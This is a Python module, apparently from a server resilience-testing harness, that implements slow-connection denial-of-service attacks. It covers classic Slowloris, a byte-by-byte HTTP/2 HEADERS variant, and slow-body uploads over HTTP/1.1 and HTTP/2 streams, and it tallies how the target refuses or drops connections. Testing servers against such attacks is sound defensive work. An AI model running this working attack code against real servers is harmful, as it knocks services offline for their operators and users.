"""Slow attackers: many connections that always seem to be about to say something."""

import time

import http2
import wire
from wire import Connection, Http2, Tally

SLOW_HEADS = 300
SLOW_HEADS_HTTP2 = 100
SLOW_BODIES_HTTP1 = 50
SLOW_BODIES_HTTP2 = 5
SLOW_BODIES_STREAMS = 20
PROMISED_BODY = 1_000_000
BETWEEN_DRIPS = 1.0
BETWEEN_LOOKS = 0.05
UPLOAD = "/reports/upload"


class Drip:
    """A connection that says one thing and then one byte a second."""

    def __init__(self, connection, first, next_piece):
        self.connection = connection
        self._next_piece = next_piece
        self._due = time.monotonic() + BETWEEN_DRIPS
        connection.send(first, self._due)

    def go_on(self, tally):
        self.connection.read()
        if not self.connection.look() or time.monotonic() < self._due:
            return
        self._due += BETWEEN_DRIPS
        if self.connection.send(self._next_piece(), time.monotonic() + BETWEEN_LOOKS):
            tally.strike(1)


def drip(openers, until):
    """Opens all, and lets them drip until the time is over. Whoever is thrown out stays out, so that it can be seen."""
    tally = Tally()
    drips = []
    for opener in openers:
        try:
            drips.append(opener(tally))
        except OSError:
            tally.refuse()
        let_drip(drips, tally)
    while time.monotonic() < until:
        let_drip(drips, tally)
        time.sleep(BETWEEN_LOOKS)
    tally.note("streams_ended", sum(each.connection.streams_ended for each in drips))
    return tally


def let_drip(drips, tally):
    for each in drips:
        each.go_on(tally)


def slow_heads(target, until):
    """Slowloris."""
    context = wire.tls_context(target, "http/1.1", with_certificate=False)
    beginning = f"GET /status HTTP/1.1\r\nHost: {target.host}\r\nX-Slow: ".encode()

    def open_one(tally):
        return Drip(Connection(target, context, tally), beginning, lambda: b"a")

    return drip([open_one] * SLOW_HEADS, until)


def slow_heads_http2(target, until):
    """Slowloris in HTTP/2: a single HEADERS frame that takes hours to arrive."""
    context = wire.tls_context(target, "h2", with_certificate=False)
    block = http2.request_block("GET", target.host, "/status", [("x-slow", "a" * 10_000)])

    def open_one(tally):
        connection = Http2(target, tally, context=context)
        frame = http2.headers(connection.new_stream(), block)
        rest = iter(frame[http2.FRAME_HEAD_LENGTH:])
        return Drip(connection, frame[:http2.FRAME_HEAD_LENGTH], lambda: bytes([next(rest)]))

    return drip([open_one] * SLOW_HEADS_HTTP2, until)


def slow_bodies(target, until):
    http1 = wire.tls_context(target, "http/1.1")
    h2 = wire.tls_context(target, "h2")
    openers = [lambda tally: slow_body_http1(target, http1, tally)] * SLOW_BODIES_HTTP1
    openers += [lambda tally: slow_bodies_http2(target, h2, tally)] * SLOW_BODIES_HTTP2
    return drip(openers, until)


def slow_body_http1(target, context, tally):
    head = f"POST {UPLOAD} HTTP/1.1\r\nHost: {target.host}\r\nContent-Length: {PROMISED_BODY}\r\n\r\n"
    return Drip(Connection(target, context, tally), head.encode(), lambda: b"a")


def slow_bodies_http2(target, context, tally):
    connection = Http2(target, tally, context=context)
    block = http2.request_block("POST", target.host, UPLOAD, [("content-length", str(PROMISED_BODY))])
    streams = [connection.new_stream() for _ in range(SLOW_BODIES_STREAMS)]
    heads = b"".join(http2.headers(stream, block, flags=http2.END_HEADERS) for stream in streams)
    byte_each = b"".join(http2.frame(http2.DATA, 0, stream, b"a") for stream in streams)
    return Drip(connection, heads, lambda: byte_each)
